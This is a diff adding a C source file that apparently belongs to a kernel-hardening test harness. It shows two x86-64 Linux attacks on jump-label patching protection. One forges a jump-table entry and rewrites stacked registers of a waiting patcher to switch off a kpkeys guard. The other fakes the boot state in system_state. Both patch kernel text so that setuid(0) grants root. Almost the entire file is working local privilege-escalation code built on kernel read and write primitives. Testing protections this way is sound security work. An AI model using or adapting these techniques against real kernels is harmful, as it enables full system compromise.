@@ -1,0 +1,270 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Jump labels are patched by their entries, which are read-only, and the section looks
+ * at nothing else. Two ways past that.
+ *
+ * The entry may be one of the protection's own: who patches waits for a mutex that is made
+ * to look held, and its entry is changed to that of a guard. Which way it goes is an
+ * argument. Behind it the guard is off, and a forged entry is believed.
+ *
+ * Or the kernel is told that it still boots. Then it takes the way on which jumps are made
+ * as ftrace and kprobes have theirs made: on the stack, and nobody asks whose they are.
+ */
+#include <stdio.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "held.h"
+#include "list.h"
+#include "objects.h"
+#include "patching.h"
+
+#ifdef __x86_64__
+#define SCRATCH		"modprobe_path"	/* near text, and long enough */
+#define SCRATCH_USED	64		/* by a path */
+#define ENTRY_SIZE	16
+#define ENTRY_FLAGS	3UL
+#define GUARD_KEY	"kpkeys_pgtables_key"
+#define ASKED		"arch_jump_label_transform_queue"
+#define ASKED_LENGTH	0x80
+#define EARLY		"jump_label_transform.constprop.0"
+#define EARLY_LENGTH	0x60
+#define STATE		"system_state"
+#define SYSTEM_BOOTING	0
+#define PAUSE		10000		/* microseconds */
+#define PATIENCE	300		/* pauses */
+#define TRIES		3
+
+struct entry {
+	int code, target;
+	uint64_t key;
+};
+
+static struct {
+	uint64_t own, guard, forged, code, target, key, state;
+	uint64_t to;			/* what the entry is changed to */
+	unsigned int running;
+} jump;
+
+static void switch_key(void)
+{
+	static int fd = -1;
+
+	if (fd < 0) {
+		fd = switch_on();
+		return;
+	}
+	close(fd);
+	fd = -1;
+}
+
+static uint64_t code_of(uint64_t at)
+{
+	int code = 0;
+
+	kread(at, &code, sizeof(code));
+	return at + code;
+}
+
+static unsigned char first_byte(uint64_t at)
+{
+	unsigned char byte = 0;
+
+	kread(at, &byte, sizeof(byte));
+	return byte;
+}
+
+static bool is_jump(uint64_t at)
+{
+	return first_byte(at) == 0xeb || first_byte(at) == 0xe9;
+}
+
+/* One of the guard's entries with its place in this function, by the kernel's own table. */
+static uint64_t find_guard(const char *function, size_t length)
+{
+	uint64_t at = ksymbol("__start___jump_table"), stop = ksymbol("__stop___jump_table");
+	uint64_t key = ksymbol(GUARD_KEY), from = ksymbol(function);
+	struct entry entries[256];
+	size_t i, nr;
+
+	for (; at && key && from && at < stop; at += nr * ENTRY_SIZE) {
+		nr = (stop - at) / ENTRY_SIZE;
+		if (nr > 256)
+			nr = 256;
+		if (kread(at, entries, nr * ENTRY_SIZE))
+			return 0;
+		for (i = 0; i < nr; i++)
+			if (at + i * ENTRY_SIZE + 8 + (entries[i].key & ~ENTRY_FLAGS) == key &&
+			    at + i * ENTRY_SIZE + entries[i].code - from < length)
+				return at + i * ENTRY_SIZE;
+	}
+	return 0;
+}
+
+/* Registers that were pushed below the way back; not those of the callers. */
+static bool change_entry(const struct held_change *change, uint64_t addr, const uint64_t *words)
+{
+	bool changed = false;
+	int i;
+
+	(void)change;
+	for (i = -HELD_BELOW; i < 0; i++) {
+		if (words[i] != jump.own)
+			continue;
+		kwrite64(addr + i * sizeof(*words), jump.to);
+		changed = true;
+	}
+	if (changed && jump.running)
+		kwrite(jump.state, &jump.running, sizeof(jump.running));
+	return changed;
+}
+
+static bool is_never_over(const struct held_change *change)
+{
+	(void)change;
+	return false;
+}
+
+static void settle(void)
+{
+	int i;
+
+	for (i = 0; i < PATIENCE && !held_is_done(); i++)
+		usleep(PAUSE);
+	usleep(20 * PAUSE);
+}
+
+static bool turn(uint64_t to, const struct held_change *way)
+{
+	const struct held_lock lock = held_mutex();
+	bool changed;
+
+	jump.to = to;
+	changed = held_act(&lock, way);
+	settle();
+	return changed;
+}
+
+static bool prepare(void)
+{
+	jump.key = ksymbol(KEY);
+	jump.own = patched_entry();
+	jump.code = find_code();
+	jump.target = find_target();
+	jump.forged = ksymbol(SCRATCH) + SCRATCH_USED;
+	jump.running = 0;
+	if (!jump.key || kread64(jump.key) || !jump.code || !jump.target || !ksymbol(SCRATCH))
+		return false;
+	return !write_entry(jump.forged, jump.code, jump.target, jump.key);
+}
+
+static void clear_entry(void)
+{
+	kwrite(jump.forged, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", ENTRY_SIZE);
+}
+
+static enum outcome become_root(const char *how)
+{
+	int uid = getuid();
+
+	if (!is_jump(jump.code))
+		return lost("the kernel patched its own places only");
+	if (setuid(0) || getuid())
+		return lost("the text was patched, and setuid(0) refused");
+	return won("%s: setuid(0) by uid=%d gave uid=%d", how, uid, getuid());
+}
+
+/*
+ * The place of the key's own that is left out each time stays a jump: where the key goes
+ * off the guard is switched in its stead, and where it goes on our entry is.
+ */
+enum outcome jump_guard(void)
+{
+	const struct held_change way = { ASKED, ASKED_LENGTH, change_entry, is_never_over, NULL };
+	bool guarded = is_protected();
+	enum outcome outcome;
+	char how[128];
+
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU");
+	held_start(switch_key);
+	jump.guard = guarded ? find_guard(ASKED, ASKED_LENGTH) : 0;
+	if (!prepare() || (guarded && !jump.guard))
+		return broken("no static key, no room, no guard, or no place that can be patched");
+	if (guarded) {
+		held_ask();
+		settle();
+		if (!is_jump(code_of(jump.guard)))
+			return broken("the guard is off already");
+		if (!turn(jump.guard, &way))
+			return broken("nobody waited with the entry (off)");
+		if (is_jump(code_of(jump.guard)))
+			return lost("the guard is still on");
+	}
+	snprintf(how, sizeof(how), "the guard at 0x%lx is off, and a forged entry was believed",
+		 guarded ? code_of(jump.guard) : 0);
+	if (!turn(jump.forged, &way))
+		return broken("nobody waited with the entry (on)");
+	outcome = become_root(how);
+	if (is_jump(jump.code))
+		turn(jump.forged, &way);
+	else
+		held_ask();
+	settle();
+	if (guarded) {
+		turn(jump.guard, &way);
+		held_ask();
+		settle();
+	}
+	held_stop();
+	clear_entry();
+	return outcome;
+}
+
+/* Back to what it was as soon as somebody waits with the entry, behind the first question. */
+static bool turn_early(const struct held_change *way)
+{
+	unsigned int booting = SYSTEM_BOOTING;
+	bool changed;
+
+	kread(jump.state, &jump.running, sizeof(jump.running));
+	kwrite(jump.state, &booting, sizeof(booting));
+	changed = turn(jump.forged, way);
+	kwrite(jump.state, &jump.running, sizeof(jump.running));
+	return changed;
+}
+
+enum outcome jump_booting(void)
+{
+	const struct held_change way = { EARLY, EARLY_LENGTH, change_entry, is_never_over, NULL };
+	enum outcome outcome;
+
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU");
+	held_start(switch_key);
+	jump.state = ksymbol(STATE);
+	if (!prepare() || !jump.state || !ksymbol(EARLY))
+		return broken("no static key, no room, or no place that can be patched");
+	if (!turn_early(&way))
+		return broken("nobody waited with the entry");
+	outcome = become_root("told that it boots, the kernel believed a forged entry");
+	if (is_jump(jump.code))
+		turn_early(&way);
+	else
+		held_ask();
+	settle();
+	held_stop();
+	clear_entry();
+	return outcome;
+}
+#else
+enum outcome jump_guard(void)
+{
+	return skipped("x86-64 only");
+}
+
+enum outcome jump_booting(void)
+{
+	return skipped("x86-64 only");
+}
+#endif
